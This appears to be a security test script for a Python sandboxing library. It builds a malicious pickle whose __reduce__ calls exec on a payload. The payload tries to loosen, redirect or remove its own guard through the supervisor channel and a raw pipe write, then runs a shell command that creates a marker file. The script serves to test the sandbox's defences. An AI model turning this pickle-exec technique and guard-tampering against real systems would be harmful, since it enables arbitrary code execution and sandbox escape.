"""Code running inside a guarded call (a pickle exploit) tries to loosen its
own guard through the supervisor's channel, then runs `touch MARKER`.
Usage: loosen_guard.py MARKER LOG MODE"""

import os
import pickle as plain_pickle
import sys

import secimport

marker, log, mode = sys.argv[1:4]

ATTACK = r"""
import os, sys, time
import secimport._supervisor as channel

# Which guard is this? Its frame is on our stack.
frame, gid = sys._getframe(), None
while frame is not None:
    name = frame.f_code.co_filename
    if name.startswith("<secimport guard "):
        gid, synthetic = int(name.split()[2].rstrip(":")), name
        break
    frame = frame.f_back
sup = channel._supervisors[MODE]
log = LOG.encode()
attempts = [
    [b"guard %d 1 1 1 %s" % (gid, log)],  # redefine it: allow everything
    [b"guard %d 1 0 0 %s" % (gid, log)],  # allow shells only
    [b"guard %d 0 0 0 /dev/null" % gid],  # send its reports elsewhere
    [b"guard 999 1 1 1 /tmp/x.log", b"file 999 " + synthetic.encode()],  # give its frame to a new guard
    [b"unguard %d" % gid],  # remove it
]
for commands in attempts:
    try:
        sup.request(commands)
        print("loosen: accepted", commands, flush=True)
    except Exception as e:
        print("loosen: refused", commands, "->", str(e).replace("\n", " | "), flush=True)
# The same, written straight to the pipe, around the client's lock.
os.write(sup._stdin.fileno(), b"guard %d 1 1 1 %s\n" % (gid, log))
answer = sup._stdout.readline(time.monotonic() + 5)
print("loosen: raw answer", answer, flush=True)
os.system("touch " + MARKER)
print("attack ran its command", flush=True)
"""


class Attack:
    def __reduce__(self):
        code = f"MARKER, LOG, MODE = {marker!r}, {log!r}, {mode!r}\n" + ATTACK
        return (exec, (code,))


exploit = plain_pickle.dumps(Attack())
pickle = secimport.secure_import("pickle", mode=mode, log_file=log)
print(f"guard made (pid {os.getpid()})", flush=True)
pickle.loads(exploit)
print("loads returned", flush=True)
